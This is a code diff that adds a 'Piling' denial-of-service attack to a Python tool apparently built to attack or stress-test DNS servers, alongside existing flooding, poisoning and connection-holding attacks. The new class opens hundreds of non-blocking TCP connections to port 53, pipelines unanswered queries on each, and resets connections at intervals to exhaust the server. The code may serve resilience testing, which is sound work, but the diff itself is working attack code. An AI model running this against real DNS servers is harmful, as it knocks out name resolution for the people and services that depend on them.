@@ -9,6 +9,7 @@ not get at the rest.
 import contextlib
 import json
 import resource
+import signal
 import socket
 import struct
 import sys
@@ -118,6 +119,53 @@ class Holding(Attack):
                 except OSError:
                     held.remove(sock)
                     sock.close()
+
+
+class Piling(Attack):
+    """Questions over TCP that nobody answers, on many connections, as fast as they are
+    taken; one is reset now and then while they wait.  Until it is told to end."""
+    CONNECTIONS, AT_ONCE, RESET_S = 300, 128, 0.02
+
+    def open(self, n):
+        sock = socket.socket()
+        sock.setblocking(False)
+        with contextlib.suppress(BlockingIOError):
+            sock.connect((self.server, 53))
+        return sock, b"".join(framed(query(f"n{k}-{n}.mute.example"))
+                              for k in range(self.AT_ONCE))
+
+    def turn(self, sock, octets):
+        """Sends some, reads what there is.  Returns what is left to send."""
+        with contextlib.suppress(BlockingIOError):
+            sent = sock.send(octets)
+            self.count += sent * self.AT_ONCE // self.size
+            octets = octets[sent:]
+        with contextlib.suppress(BlockingIOError):
+            if not sock.recv(1 << 20):
+                raise ConnectionResetError
+        return octets
+
+    def run(self):
+        def end(*_):
+            self.until = 0
+        signal.signal(signal.SIGTERM, end)
+        socks = [self.open(n) for n in range(self.CONNECTIONS)]
+        left = [octets for _, octets in socks]
+        reset = time.monotonic() + self.RESET_S
+        while self.goes_on():
+            for n, (sock, octets) in enumerate(socks):
+                self.size = len(octets)
+                try:
+                    left[n] = self.turn(sock, left[n]) or octets
+                    if time.monotonic() < reset:
+                        continue
+                except OSError:
+                    pass
+                reset = time.monotonic() + self.RESET_S
+                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
+                sock.close()
+                socks[n] = self.open(n)
+                left[n] = octets
 
 
 class Flooding(Attack):
@@ -233,8 +281,8 @@ class Asking(Attack):
 
 
 if __name__ == "__main__":
-    attack = {c.__name__.lower(): c for c in (Pipelining, Connecting, Holding, Flooding, Poisoning,
-                                              Asking)}[sys.argv[1]](sys.argv[2],
+    attack = {c.__name__.lower(): c for c in (Pipelining, Connecting, Holding, Piling, Flooding,
+                                              Poisoning, Asking)}[sys.argv[1]](sys.argv[2],
                                                                     float(sys.argv[3]))
     attack.run()
     print(json.dumps({name: getattr(attack, name)
